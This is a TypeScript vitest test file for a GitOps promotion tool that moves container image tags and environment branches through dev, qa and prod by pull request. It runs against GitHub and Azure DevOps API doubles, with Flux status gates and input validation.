import { execFileSync } from 'node:child_process';
import { mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { type AzureDevOpsApi, startAzureApi } from './doubles/azure-api';
import { type GitHubApiDouble, isWrite, startGitHubDouble } from './doubles/github-api';
import { type BundleRun, runAzure, runGitHub } from './support/bundle';
import { type GitFixture, git, gitFixture } from './support/git';
import { azureProviderOn, githubProviderOn } from './support/hosts';

/**
 * Application promotion (XKS: image tags by pull request; Fabrikate: environment branches), through the
 * built bundles, the way GitHub Actions and Azure Pipelines run them, against the API doubles backed by a
 * real bare repository. Flux's statuses are posted in their real formats.
 */

// ---------------------------------------------------------------------------------------------------------
// Hosts: one platform's way of running a step, merging, and showing what the hosting service received.

interface PullView {
  number: number;
  title: string;
  body: string;
  head: string;
  base: string;
  state: 'open' | 'merged' | 'closed';
  autoMerge: boolean;
}

interface Host {
  name: 'github' | 'azure';
  token: string;
  /** A run on main at `sha` (a push, or a manual run for `new`). */
  push(step: string, sha: string, inputs: Record<string, string>): Promise<BundleRun>;
  /** A pull-request run: the check of pull request `number`. */
  check(step: string, number: number, inputs?: Record<string, string>): Promise<BundleRun>;
  /** The merge button: a merge commit on the pull request's base; returns it. */
  merge(number: number): Promise<string>;
  /** Flux's notification-controller reporting on `sha` for Kustomization `name`. */
  flux(sha: string, name: string, ok: boolean, description: string): void;
  pulls(): PullView[];
  pull(number: number): PullView;
  /** Auto-merge switched on or off, per call, in order. */
  autoMergeCalls(): { number: number; enabled: boolean }[];
  requestCount(): number;
  close(): Promise<void>;
}

async function githubHost(fx: GitFixture): Promise<Host & { api: GitHubApiDouble }> {
  const api = await startGitHubDouble(fx.remote);
  const view = (p: Record<string, unknown>): PullView => ({
    number: p.number as number,
    title: p.title as string,
    body: (p.body as string | null) ?? '',
    head: (p.head as { ref: string }).ref,
    base: (p.base as { ref: string }).ref,
    state: p.merged_at ? 'merged' : (p.state as 'open' | 'closed'),
    autoMerge: p.auto_merge != null,
  });
  return {
    name: 'github',
    api,
    token: api.token,
    push: (step, sha, inputs) =>
      runGitHub(step, {
        cwd: fx.work,
        event: inputs.command === 'new' ? 'workflow_dispatch' : 'push',
        ref: `refs/heads/${git(fx.work, 'rev-parse', '--abbrev-ref', 'HEAD')}`,
        sha,
        env: { ...api.env() },
        inputs: { token: api.token, ...inputs },
        payload: {},
      }),
    check: (step, number, inputs = {}) => {
      const pr = api.pullRequest(number)!;
      const head = pr.head as { ref: string; sha: string };
      const base = pr.base as { ref: string };
      return runGitHub(step, {
        cwd: fx.work,
        event: 'pull_request',
        ref: `refs/pull/${number}/merge`,
        sha: head.sha,
        env: { ...api.env() },
        inputs: { token: api.token, ...inputs },
        payload: { number, pull_request: { number, base: { ref: base.ref }, head } },
      });
    },
    merge: (number) => api.mergePullRequest(number),
    flux: (sha, name, ok, description) => {
      api.addStatus(sha, {
        context: `kustomization/${name}/1a2b3c4d`,
        state: ok ? 'success' : 'failure',
        description,
      });
    },
    pulls: () => api.pullRequests().map(view),
    pull: (n) => view(api.pullRequest(n)!),
    autoMergeCalls: () => {
      const byNode = new Map(api.pullRequests().map((p) => [p.node_id as string, p.number as number]));
      return api
        .requestsTo('POST', /graphql$/)
        .map((r) => r.body as { query: string; variables: { pullRequestId: string } })
        .filter((b) => /PullRequestAutoMerge/.test(b.query))
        .map((b) => ({
          number: byNode.get(b.variables.pullRequestId) ?? -1,
          enabled: /enablePullRequestAutoMerge/.test(b.query),
        }));
    },
    requestCount: () => api.requests.length,
    close: () => api.close(),
  };
}

const EMPTY_GUID = '00000000-0000-0000-0000-000000000000';

async function azureHost(fx: GitFixture): Promise<Host & { api: AzureDevOpsApi }> {
  const api = await startAzureApi({ repo: fx.remote });
  const view = (p: Record<string, unknown>): PullView => ({
    number: p.pullRequestId as number,
    title: p.title as string,
    body: (p.description as string) ?? '',
    head: String(p.sourceRefName).replace('refs/heads/', ''),
    base: String(p.targetRefName).replace('refs/heads/', ''),
    state: p.status === 'completed' ? 'merged' : p.status === 'abandoned' ? 'closed' : 'open',
    autoMerge: p.autoCompleteSetBy != null,
  });
  const find = (n: number) => view(api.pullRequests().find((p) => p.pullRequestId === n)!);
  return {
    name: 'azure',
    api,
    token: api.token,
    push: (step, sha, inputs) =>
      runAzure(step, {
        cwd: fx.work,
        reason: inputs.command === 'new' ? 'Manual' : 'IndividualCI',
        sourceBranch: `refs/heads/${git(fx.work, 'rev-parse', '--abbrev-ref', 'HEAD')}`,
        sha,
        env: { ...api.env() },
        inputs,
      }),
    check: (step, number, inputs = {}) => {
      const pr = find(number);
      const head = git(fx.remote, 'rev-parse', `refs/heads/${pr.head}`);
      return runAzure(step, {
        cwd: fx.work,
        reason: 'PullRequest',
        sourceBranch: `refs/pull/${number}/merge`,
        sha: head,
        env: { ...api.env() },
        inputs,
        pullRequest: {
          id: number,
          target: `refs/heads/${pr.base}`,
          source: `refs/heads/${pr.head}`,
          sourceCommit: head,
        },
      });
    },
    merge: (number) => api.completePullRequest(number),
    flux: (sha, name, ok, description) => {
      api.addStatus(sha, {
        genre: 'fluxcd',
        name: `kustomization/${name}/1a2b3c4d`,
        state: ok ? 'succeeded' : 'error',
        description,
      });
    },
    pulls: () => api.pullRequests().map(view),
    pull: find,
    autoMergeCalls: () =>
      api.requests
        .filter((r) => r.method === 'PATCH' && /\/pullrequests\/\d+$/i.test(r.path))
        .filter((r) => (r.body as { autoCompleteSetBy?: unknown } | undefined)?.autoCompleteSetBy)
        .map((r) => ({
          number: Number(/(\d+)$/.exec(r.path)![1]),
          enabled: (r.body as { autoCompleteSetBy: { id: string } }).autoCompleteSetBy.id !== EMPTY_GUID,
        })),
    requestCount: () => api.requests.length,
    close: () => api.close(),
  };
}

let open: Host | undefined;
afterEach(async () => {
  await open?.close();
  open = undefined;
});

async function start<H extends Host>(make: (fx: GitFixture) => Promise<H>, fx: GitFixture): Promise<H> {
  const host = await make(fx);
  open = host;
  return host;
}

// ---------------------------------------------------------------------------------------------------------
// The repository: XKS layout, podinfo in group apps, dev (auto) → qa (auto) → prod (manual).

const XKS_CONFIG = `prflow: per-app
environments:
  - name: dev
    auto: true
  - name: qa
    auto: true
  - name: prod
    auto: false
`;

/** podinfo's Deployment: comments, blank lines, flow style, and another app's image in the same file. */
const deployment = (env: string, tag: string) => `# podinfo in ${env}: the Deployment Flux applies
apiVersion: apps/v1
kind: Deployment
metadata:
  name: podinfo   # the app
  namespace: apps
spec:
  replicas: ${env === 'prod' ? 3 : 1}
  template:
    spec:
      containers:
        - name: podinfo
          image: ghcr.io/org/podinfo:${tag} # {"$imagepolicy": "apps:podinfo"}
          ports: [{ containerPort: 9898 }]

        - name: sidecar
          image: ghcr.io/org/sidecar:2.0.0 # {"$imagepolicy": "apps:sidecar"}
`;

/** The kustomization: podinfo's migration image through an images entry with a tag setter. */
const kustomization = (tag: string) => `apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
resources:
  - podinfo.yaml
images:
  # migrations run from podinfo's own image
  - name: ghcr.io/org/podinfo-migrate
    newTag: ${tag}   # {"$imagepolicy": "apps:podinfo:tag"}
`;

function xksRepo(config = XKS_CONFIG): GitFixture {
  const files: Record<string, string> = { 'gitops-promotion.yaml': config };
  for (const env of ['dev', 'qa', 'prod']) {
    files[`apps/${env}/podinfo.yaml`] = deployment(env, '1.0.0');
    files[`apps/${env}/kustomization.yaml`] = kustomization('1.0.0');
  }
  return gitFixture(files);
}

/** What a CI checkout of main gives: the workspace at the remote's main. Returns its commit. */
function checkoutMain(fx: GitFixture): string {
  fx.git('fetch', '-q', 'origin');
  fx.git('checkout', '-q', 'main');
  fx.git('reset', '-q', '--hard', 'origin/main');
  return fx.git('rev-parse', 'HEAD');
}

/** A file as the remote has it at `ref`, byte for byte. */
function remoteFile(fx: GitFixture, ref: string, path: string): string {
  return execFileSync('git', ['show', `${ref}:${path}`], { cwd: fx.remote, encoding: 'utf8' });
}

function changedFiles(fx: GitFixture, from: string, to: string): string[] {
  return git(fx.remote, 'diff', '--name-only', from, to).split('\n').filter(Boolean);
}

function metadataOf(body: string): Record<string, unknown> {
  const m = /<!-- gitops-promote:promotion (\{.*\}) -->/.exec(body);
  if (!m) throw new Error(`no metadata block in:\n${body}`);
  return JSON.parse(m[1]!) as Record<string, unknown>;
}

function ok(r: BundleRun): Record<string, string> {
  expect(r.code, `exit ${r.code}: ${r.failure}\nstdout:\n${r.stdout}\nstderr:\n${r.stderr}`).toBe(0);
  return r.outputs;
}

const NEW = { strategy: 'pull-request', command: 'new', group: 'apps', app: 'podinfo' };
const PROMOTE = { strategy: 'pull-request', command: 'promote' };
const GATE = { timeout: '2s', interval: '1s' };

// ---------------------------------------------------------------------------------------------------------

describe.each([
  ['GitHub Actions + GitHub API', githubHost],
  ['Azure Pipelines + Azure DevOps API', azureHost],
] as const)('the XKS story on %s', (_title, make) => {
  it('a8b91c33 goes dev → qa by pull request, qa fails in Flux and stops prod, cc2b7e0a starts over and reaches prod', async () => {
    const fx = xksRepo();
    const host = await start<Host>(make, fx);
    const gate = (n: number) => host.check('check-previous-env', n, GATE);

    // 1. A new image: the pull request into dev, auto-merge on, its gate passes (dev is first).
    const m0 = checkoutMain(fx);
    const created = ok(await host.push('promote-tag', m0, { ...NEW, 'image-tag': 'a8b91c33' }));
    expect(created).toMatchObject({
      environment: 'dev',
      sha: m0,
      tag: 'a8b91c33',
      created: 'true',
      'pull-request-number': '1',
      branch: 'promote/apps-podinfo',
      'auto-merge': 'true',
    });
    expect(created['pull-request-url']).toMatch(/\/(pull|pullrequest)\/1$/);
    expect(remoteFile(fx, 'promote/apps-podinfo', 'apps/dev/podinfo.yaml')).toBe(
      deployment('dev', 'a8b91c33'),
    );
    expect(remoteFile(fx, 'promote/apps-podinfo', 'apps/dev/kustomization.yaml')).toBe(
      kustomization('a8b91c33'),
    );
    expect(changedFiles(fx, m0, 'promote/apps-podinfo')).toEqual([
      'apps/dev/kustomization.yaml',
      'apps/dev/podinfo.yaml',
    ]);
    expect(git(fx.remote, 'rev-parse', 'promote/apps-podinfo^')).toBe(m0);
    const pr1 = host.pull(1);
    expect(pr1).toMatchObject({
      title: 'Promote apps/podinfo version a8b91c33 to environment dev',
      head: 'promote/apps-podinfo',
      base: 'main',
      state: 'open',
      autoMerge: true,
    });
    expect(metadataOf(pr1.body)).toEqual({
      version: 1,
      group: 'apps',
      app: 'podinfo',
      tag: 'a8b91c33',
      env: 'dev',
      sha: m0,
      type: 'new',
    });
    expect(pr1.body).toContain(
      '`apps/dev/podinfo.yaml` line 13: `ghcr.io/org/podinfo:1.0.0` → `ghcr.io/org/podinfo:a8b91c33`',
    );
    expect(host.autoMergeCalls()).toEqual([{ number: 1, enabled: true }]);
    expect(ok(await gate(1))).toMatchObject({
      state: 'success',
      'previous-environment': '',
      'checked-sha': m0,
    });

    // 2. Merged: promote on the push to main proposes qa; its gate waits for Flux in dev, then passes.
    const m1 = await host.merge(1);
    checkoutMain(fx);
    const toQa = ok(await host.push('promote-tag', m1, PROMOTE));
    expect(toQa).toMatchObject({
      environment: 'qa',
      sha: m1,
      tag: 'a8b91c33',
      created: 'true',
      'pull-request-number': '2',
      branch: 'promote/apps-podinfo',
      'auto-merge': 'true',
    });
    expect(remoteFile(fx, 'promote/apps-podinfo', 'apps/qa/podinfo.yaml')).toBe(deployment('qa', 'a8b91c33'));
    expect(changedFiles(fx, m1, 'promote/apps-podinfo')).toEqual([
      'apps/qa/kustomization.yaml',
      'apps/qa/podinfo.yaml',
    ]);
    const pr2 = host.pull(2);
    expect(pr2.title).toBe('Promote apps/podinfo version a8b91c33 to environment qa');
    expect(metadataOf(pr2.body)).toMatchObject({ env: 'qa', tag: 'a8b91c33', sha: m1, type: 'promote' });
    expect(pr2.body).toContain('dev received `a8b91c33` with pull request #1');

    const early = await gate(2);
    expect(early.code).toBe(1);
    expect(early.outputs.state).toBe('missing');
    expect(early.failure).toContain(
      `pull request #2 promotes apps/podinfo a8b91c33 to qa: dev has no result for commit ${m1.slice(0, 12)} after 2s`,
    );
    host.flux(m1, 'apps-dev', true, 'reconciliation succeeded');
    expect(ok(await gate(2))).toMatchObject({
      state: 'success',
      'previous-environment': 'dev',
      'checked-sha': m1,
    });

    // 3. qa merged; prod's pull request is not auto; Flux reports a failure in qa: prod's gate fails.
    const m2 = await host.merge(2);
    checkoutMain(fx);
    const toProd = ok(await host.push('promote-tag', m2, PROMOTE));
    expect(toProd).toMatchObject({
      environment: 'prod',
      sha: m2,
      'pull-request-number': '3',
      created: 'true',
      'auto-merge': 'false',
    });
    expect(host.pull(3)).toMatchObject({
      title: 'Promote apps/podinfo version a8b91c33 to environment prod',
      autoMerge: false,
    });
    expect(host.pull(3).body).toContain('prod is not `auto`: a person reviews and merges.');
    expect(host.autoMergeCalls().filter((c) => c.number === 3)).toEqual([]);
    host.flux(m2, 'apps-qa', false, 'health check failed');
    const failed = await gate(3);
    expect(failed.code).toBe(1);
    expect(failed.outputs.state).toBe('failure');
    expect(failed.outputs['checked-sha']).toBe(m2);
    expect(failed.failure).toContain(
      `pull request #3 promotes apps/podinfo a8b91c33 to prod: qa failed for commit ${m2.slice(0, 12)}:`,
    );
    // As each platform lists Flux's status: GitHub context and state, Azure DevOps genre/name and state.
    expect(failed.failure).toContain(
      host.name === 'github'
        ? 'kustomization/apps-qa/1a2b3c4d: failure — health check failed'
        : 'fluxcd/kustomization/apps-qa/1a2b3c4d: error — health check failed',
    );

    // 4. A fixed image: the app's pull request goes back to dev (per-app), auto-merge on again.
    const fixedAt = checkoutMain(fx);
    const reset = ok(await host.push('promote-tag', fixedAt, { ...NEW, 'image-tag': 'cc2b7e0a' }));
    expect(reset).toMatchObject({
      environment: 'dev',
      tag: 'cc2b7e0a',
      created: 'true',
      'pull-request-number': '3',
      'auto-merge': 'true',
    });
    expect(host.pull(3)).toMatchObject({
      title: 'Promote apps/podinfo version cc2b7e0a to environment dev',
      state: 'open',
      autoMerge: true,
    });
    expect(metadataOf(host.pull(3).body)).toMatchObject({
      env: 'dev',
      tag: 'cc2b7e0a',
      type: 'new',
      sha: m2,
    });
    expect(changedFiles(fx, m2, 'promote/apps-podinfo')).toEqual([
      'apps/dev/kustomization.yaml',
      'apps/dev/podinfo.yaml',
    ]);
    expect(remoteFile(fx, 'promote/apps-podinfo', 'apps/dev/podinfo.yaml')).toBe(
      deployment('dev', 'cc2b7e0a'),
    );
    expect(ok(await gate(3)).state).toBe('success');

    const m3 = await host.merge(3);
    checkoutMain(fx);
    expect(ok(await host.push('promote-tag', m3, PROMOTE))).toMatchObject({
      environment: 'qa',
      'pull-request-number': '4',
      'auto-merge': 'true',
    });
    host.flux(m3, 'apps-dev', true, 'reconciliation succeeded');
    expect(ok(await gate(4))).toMatchObject({ state: 'success', 'checked-sha': m3 });
    const m4 = await host.merge(4);
    checkoutMain(fx);
    expect(ok(await host.push('promote-tag', m4, PROMOTE))).toMatchObject({
      environment: 'prod',
      tag: 'cc2b7e0a',
      'pull-request-number': '5',
      'auto-merge': 'false',
    });
    host.flux(m4, 'apps-qa', true, 'reconciliation succeeded');
    expect(ok(await gate(5))).toMatchObject({
      state: 'success',
      'previous-environment': 'qa',
      'checked-sha': m4,
    });

    // A person merges prod; the push after it has nothing left to promote.
    const m5 = await host.merge(5);
    checkoutMain(fx);
    const done = await host.push('promote-tag', m5, PROMOTE);
    expect(ok(done)).toMatchObject({ environment: '', created: 'false', 'pull-request-number': '' });
    expect(done.stdout + done.stderr).toContain('prod, the last environment: the promotion is complete');
    expect(remoteFile(fx, 'main', 'apps/prod/podinfo.yaml')).toBe(deployment('prod', 'cc2b7e0a'));
    expect(remoteFile(fx, 'main', 'apps/prod/kustomization.yaml')).toBe(kustomization('cc2b7e0a'));
    expect(remoteFile(fx, 'main', 'apps/qa/podinfo.yaml')).toBe(deployment('qa', 'cc2b7e0a'));
    expect(host.pulls().map((p) => [p.number, p.state])).toEqual([
      [1, 'merged'],
      [2, 'merged'],
      [3, 'merged'],
      [4, 'merged'],
      [5, 'merged'],
    ]);
    // Auto-merge for dev and qa, never for prod.
    expect(host.autoMergeCalls()).toEqual([
      { number: 1, enabled: true },
      { number: 2, enabled: true },
      { number: 3, enabled: true },
      { number: 4, enabled: true },
    ]);
  });
});

describe('the gate of a promotion pull request', () => {
  it('Flux skipped the merge commit: the head of main stands in, as it runs the same tag in dev', async () => {
    const fx = xksRepo();
    const host = await start(githubHost, fx);
    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'a8b91c33' }));
    const m1 = await host.merge(1);
    // Another change lands right after; Flux applies only the newer revision.
    checkoutMain(fx);
    const m1b = fx.commit({ 'README.md': '# gitops\n' }, 'docs');
    fx.git('push', '-q', 'origin', 'main');
    expect(ok(await host.push('promote-tag', m1, PROMOTE))).toMatchObject({ environment: 'qa', sha: m1 });
    expect(git(fx.remote, 'rev-parse', 'promote/apps-podinfo^')).toBe(m1b);
    host.flux(m1b, 'apps-dev', true, 'reconciliation succeeded');
    const r = await host.check('check-previous-env', 2, GATE);
    expect(ok(r)).toMatchObject({ state: 'success', 'checked-sha': m1b, 'previous-environment': 'dev' });
    expect(r.stdout).toContain(`standing in for ${m1.slice(0, 12)}`);
    expect(r.summary).toContain('apps-dev/1a2b3c4d');
  });

  it('per-env on Azure DevOps: one pull request per environment; a head of main running another tag cannot stand in', async () => {
    const fx = xksRepo(XKS_CONFIG.replace('per-app', 'per-env'));
    const host = await start(azureHost, fx);
    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c1' }));
    expect(host.pull(1).head).toBe('promote/dev/apps-podinfo');
    const m1 = await host.merge(1);
    checkoutMain(fx);
    expect(ok(await host.push('promote-tag', m1, PROMOTE))).toMatchObject({
      environment: 'qa',
      branch: 'promote/qa/apps-podinfo',
      'pull-request-number': '2',
    });

    // c2 enters dev while c1's qa pull request is open: per env, that one stays.
    const c2 = ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c2' }));
    expect(c2).toMatchObject({ 'pull-request-number': '3', branch: 'promote/dev/apps-podinfo' });
    expect(
      host
        .pulls()
        .filter((p) => p.state === 'open')
        .map((p) => [p.number, p.head]),
    ).toEqual([
      [2, 'promote/qa/apps-podinfo'],
      [3, 'promote/dev/apps-podinfo'],
    ]);
    const m3 = await host.merge(3);
    // Flux skipped m1 and applied m3, where dev runs c2: no result for c1.
    host.flux(m3, 'apps-dev', true, 'reconciliation succeeded');
    const stuck = await host.check('check-previous-env', 2, GATE);
    expect(stuck.code).toBe(1);
    expect(stuck.failure).toContain(`dev has no result for commit ${m1.slice(0, 12)}`);
    expect(stuck.failure).toContain(
      `the head of main (${m3.slice(0, 12)}) cannot stand in: dev runs another podinfo tag there`,
    );

    // promote after c2's merge takes the qa pull request over with c2; its gate passes on m3.
    checkoutMain(fx);
    expect(ok(await host.push('promote-tag', m3, PROMOTE))).toMatchObject({
      environment: 'qa',
      tag: 'c2',
      created: 'true',
      'pull-request-number': '2',
    });
    expect(metadataOf(host.pull(2).body)).toMatchObject({ tag: 'c2', env: 'qa', sha: m3 });
    expect(ok(await host.check('check-previous-env', 2, GATE))).toMatchObject({
      state: 'success',
      'checked-sha': m3,
    });
  });

  it('an ordinary pull request into main is no promotion: the first environment, no API call', async () => {
    const fx = xksRepo();
    const host = await start(githubHost, fx);
    fx.git('checkout', '-q', '-b', 'feature/readme');
    const head = fx.commit({ 'README.md': '# docs\n' }, 'docs');
    const r = await runGitHub('check-previous-env', {
      cwd: fx.work,
      event: 'pull_request',
      ref: 'refs/pull/9/merge',
      sha: head,
      env: { ...host.api.env() },
      inputs: { token: host.token },
      payload: {
        pull_request: { number: 9, base: { ref: 'main' }, head: { ref: 'feature/readme', sha: head } },
      },
    });
    expect(ok(r)).toMatchObject({ state: 'success', 'previous-environment': '', 'checked-sha': head });
    expect(host.requestCount()).toBe(0);
  });

  it('an edited or missing metadata block fails with a message naming the pull request', async () => {
    const fx = xksRepo();
    const host = await start(githubHost, fx);
    const gh = githubProviderOn(host.api);
    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'a8b91c33' }));
    const body = host.pull(1).body;

    await gh.updatePullRequest(1, { body: body.replace('"env":"dev"', '"env":"staging"') });
    let r = await host.check('check-previous-env', 1, GATE);
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      'check-previous-env: pull request #1 (promote/apps-podinfo → main): its gitops-promote:promotion block has env "staging", which is not an environment in gitops-promotion.yaml (dev, qa, prod); restore the description as promote-tag wrote it, or close the pull request and run promote-tag again',
    );

    await gh.updatePullRequest(1, { body: body.replace(/"tag":"a8b91c33",/, '"tag":"a8b91c33"') });
    r = await host.check('check-previous-env', 1, GATE);
    expect(r.failure).toContain(
      'pull request #1 (promote/apps-podinfo → main): its gitops-promote:promotion block is not valid JSON',
    );

    await gh.updatePullRequest(1, { body: 'Bumps podinfo.' });
    r = await host.check('check-previous-env', 1, GATE);
    expect(r.failure).toContain(
      'pull request #1 (promote/apps-podinfo → main) comes from a promotion branch but its description has no gitops-promote:promotion block',
    );

    // promote on its merge says the same, and opens nothing.
    const m1 = await host.merge(1);
    checkoutMain(fx);
    r = await host.push('promote-tag', m1, PROMOTE);
    expect(r.code).toBe(1);
    expect(r.failure).toContain(
      'promote-tag: pull request #1 (promote/apps-podinfo → main) comes from a promotion branch',
    );
    expect(host.pulls()).toHaveLength(1);
  });
});

describe('promote-tag, pull-request strategy', () => {
  it('a promotion that changes no file opens no pull request and says so', async () => {
    const fx = xksRepo();
    const host = await start(githubHost, fx);
    const r = await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': '1.0.0' });
    expect(ok(r)).toMatchObject({
      environment: 'dev',
      created: 'false',
      'pull-request-number': '',
      branch: '',
    });
    expect(r.stdout).toContain('dev already runs apps/podinfo 1.0.0 on main');
    expect(host.pulls()).toEqual([]);
    expect(git(fx.remote, 'branch', '--list', 'promote/*')).toBe('');
  });

  it('running new again is an equal promotion: created=false, one pull request, one commit', async () => {
    const fx = xksRepo();
    const host = await start(azureHost, fx);
    const m0 = checkoutMain(fx);
    ok(await host.push('promote-tag', m0, { ...NEW, 'image-tag': 'a8b91c33' }));
    const head = git(fx.remote, 'rev-parse', 'promote/apps-podinfo');
    const again = ok(await host.push('promote-tag', m0, { ...NEW, 'image-tag': 'a8b91c33' }));
    expect(again).toMatchObject({ created: 'false', 'pull-request-number': '1', 'auto-merge': 'true' });
    expect(git(fx.remote, 'rev-parse', 'promote/apps-podinfo')).toBe(head);
    expect(host.pulls()).toHaveLength(1);
    expect(host.autoMergeCalls()).toEqual([{ number: 1, enabled: true }]);
  });

  it('a manifest directory without a setter for the app is a clear error, and nothing is created', async () => {
    const fx = gitFixture({
      'gitops-promotion.yaml': XKS_CONFIG,
      'apps/dev/podinfo.yaml': 'image: ghcr.io/org/podinfo:1.0.0\n',
      'apps/dev/other.yaml': 'image: ghcr.io/org/other:1 # {"$imagepolicy": "apps:other"}\n',
    });
    const host = await start(githubHost, fx);
    const r = await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'a8b91c33' });
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      'promote-tag: no manifest under apps/dev marks apps/podinfo, so dev cannot be promoted: add the Flux setter comment # {"$imagepolicy": "apps:podinfo"} to its image (or "apps:podinfo:tag" to a tag), or an images entry named podinfo to its kustomization.yaml',
    );
    expect(host.pulls()).toEqual([]);
  });

  it('a branch moved by someone else while committing: read again and retried', async () => {
    const fx = xksRepo();
    const host = await start(githubHost, fx);
    ok(await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c1' }));
    host.api.failNext({
      method: 'PATCH',
      path: '/git/refs/heads/promote',
      status: 422,
      body: {
        message: 'Update is not a fast forward',
        documentation_url: 'https://docs.github.com/rest',
        status: '422',
      },
    });
    const r = await host.push('promote-tag', checkoutMain(fx), { ...NEW, 'image-tag': 'c2' });
    expect(ok(r)).toMatchObject({ tag: 'c2', 'pull-request-number': '1' });
    expect(r.stdout).toContain('branch promote/apps-podinfo or main moved while committing');
    expect(remoteFile(fx, 'promote/apps-podinfo', 'apps/dev/podinfo.yaml')).toBe(deployment('dev', 'c2'));
  });

  it('warns once when token is the workflow token: its pull requests start no workflow', async () => {
    const fx = xksRepo();
    const host = await start(githubHost, fx);
    const r = await host.push('promote-tag', checkoutMain(fx), {
      ...NEW,
      'image-tag': 'a8b91c33',
      'workflow-token': host.token,
    });
    ok(r);
    expect(r.warnings).toHaveLength(1);
    expect(r.warnings[0]).toContain("the workflow's own GITHUB_TOKEN, so GitHub starts no workflow for it");
    const visible = r.stdout.split('\n').filter((l) => !l.startsWith('::add-mask::'));
    expect(visible.join('\n')).not.toContain(host.token);
  });

  it.each([
    [
      { command: 'new', app: 'podinfo', 'image-tag': 'a8b91c33' },
      'input group: "" is not valid; it is required',
    ],
    [
      { command: 'new', group: 'apps', 'image-tag': 'a8b91c33' },
      'input app: "" is not valid; it is required',
    ],
    [{ command: 'new', group: 'apps', app: 'podinfo' }, 'input image-tag: "" is not valid; it is required'],
    [{ command: 'deploy' }, 'input command: "deploy" is not valid; use one of new, promote'],
    [
      { command: 'new', group: 'apps', app: 'podinfo', 'image-tag': 'v1/2' },
      'input image-tag: "v1/2" is not valid; an image tag is letters, digits, "_", "." and "-"',
    ],
    [
      { command: 'new', group: 'Apps', app: 'podinfo', 'image-tag': '1' },
      'input group: "Apps" is not valid; use a Kubernetes name',
    ],
    [
      { command: 'promote', 'image-tag': '1.2.3' },
      'input image-tag: "1.2.3" is not valid; it belongs to command new (promote reads them from the merged pull request)',
    ],
    [
      { command: 'new', group: 'apps', app: 'podinfo', tag: 'a8b91c33' },
      'input tag: "a8b91c33" is not valid; tag names the deploy tag of the git-tag strategy; give the image tag as image-tag',
    ],
    [
      { command: 'new', group: 'apps', app: 'podinfo', 'image-tag': '1', environment: 'qa' },
      'input environment: "qa" is not valid; command new always starts at the first environment, dev',
    ],
    [{ strategy: 'pull-request' }, 'input command: "" is not valid; the pull-request strategy needs command'],
  ])('bad input %o: one message naming the input, before any call', async (inputs, message) => {
    const fx = xksRepo();
    const host = await start(githubHost, fx);
    const r = await host.push('promote-tag', checkoutMain(fx), inputs as Record<string, string>);
    expect(r.code).toBe(1);
    expect(r.failure).toContain(`promote-tag: ${message}`);
    expect(r.failure!.split('\n')).toHaveLength(1);
    expect(host.requestCount()).toBe(0);
  });
});

describe('branch layout (Fabrikate): environment branches', () => {
  const CONFIG =
    'main-branch: dev\nenvironments:\n  - { name: dev, on: { branch: dev } }\n  - { name: stage, on: { branch: stage }, auto: true }\n  - { name: prod, on: { branch: prod } }\nstatus: { timeout: 2s, interval: 1s }\n';

  function fabrikate(): GitFixture {
    const fx = gitFixture({ 'gitops-promote.yaml': CONFIG, 'app/config/dev.yaml': 'replicas: 1\n' });
    fx.git('branch', '-m', 'main', 'dev');
    fx.git('push', '-q', 'origin', 'dev', 'dev:stage', 'dev:prod');
    git(fx.remote, 'symbolic-ref', 'HEAD', 'refs/heads/dev');
    git(fx.remote, 'branch', '-D', 'main');
    return fx;
  }

  it('opens the pull request from dev into stage, updates it as dev moves, and opens none without a difference', async () => {
    const fx = fabrikate();
    const host = await start(githubHost, fx);
    const d1 = fx.commit({ 'app/config/dev.yaml': 'replicas: 2\n' }, 'scale');
    fx.git('push', '-q', 'origin', 'dev');

    // The push to dev applied dev: the default strategy for stage (a branch) is branch.
    const first = ok(await host.push('promote-tag', d1, {}));
    expect(first).toMatchObject({
      environment: 'stage',
      sha: d1,
      tag: '',
      created: 'true',
      'pull-request-number': '1',
      branch: 'dev',
      'auto-merge': 'true',
    });
    expect(host.pull(1)).toMatchObject({
      title: 'Promote dev to stage',
      head: 'dev',
      base: 'stage',
      autoMerge: true,
    });
    expect(host.pull(1).body).toContain(`\`${d1.slice(0, 12)}\``);

    const d2 = fx.commit({ 'app/config/dev.yaml': 'replicas: 3\n' }, 'scale more');
    fx.git('push', '-q', 'origin', 'dev');
    const second = ok(await host.push('promote-tag', d2, {}));
    expect(second).toMatchObject({ created: 'false', 'pull-request-number': '1', sha: d2 });
    expect(host.pull(1).body).toContain(`\`${d2.slice(0, 12)}\``);
    expect(host.pulls()).toHaveLength(1);

    // The gate on it: dev's own result on the pull request's head.
    host.api.addStatus(d2, { context: 'gitops-promote/dev', state: 'success', description: 'applied' });
    expect(ok(await host.check('check-previous-env', 1, GATE))).toMatchObject({
      state: 'success',
      'previous-environment': 'dev',
      'checked-sha': d2,
    });

    await host.merge(1);
    const none = await host.push('promote-tag', d2, { environment: 'stage' });
    expect(ok(none)).toMatchObject({ created: 'false', 'pull-request-number': '', environment: 'stage' });
    expect(none.stdout).toContain('stage already has every commit of dev');
    expect(host.pulls()).toHaveLength(1);
  });

  it('check-previous-env refuses a pull request into stage from any branch but dev', async () => {
    const fx = fabrikate();
    const host = await start(githubHost, fx);
    fx.git('checkout', '-q', '-b', 'feature/hotfix');
    const head = fx.commit({ 'app/config/dev.yaml': 'replicas: 9\n' }, 'hotfix');
    fx.git('push', '-q', 'origin', 'feature/hotfix');
    const r = await runGitHub('check-previous-env', {
      cwd: fx.work,
      event: 'pull_request',
      ref: 'refs/pull/7/merge',
      sha: head,
      env: { ...host.api.env() },
      inputs: { token: host.token },
      payload: {
        pull_request: { number: 7, base: { ref: 'stage' }, head: { ref: 'feature/hotfix', sha: head } },
      },
    });
    expect(r.code).toBe(1);
    expect(r.failure).toBe(
      'check-previous-env: pull requests into stage (environment stage) must come from dev, the branch of the previous environment dev; this one comes from feature/hotfix',
    );
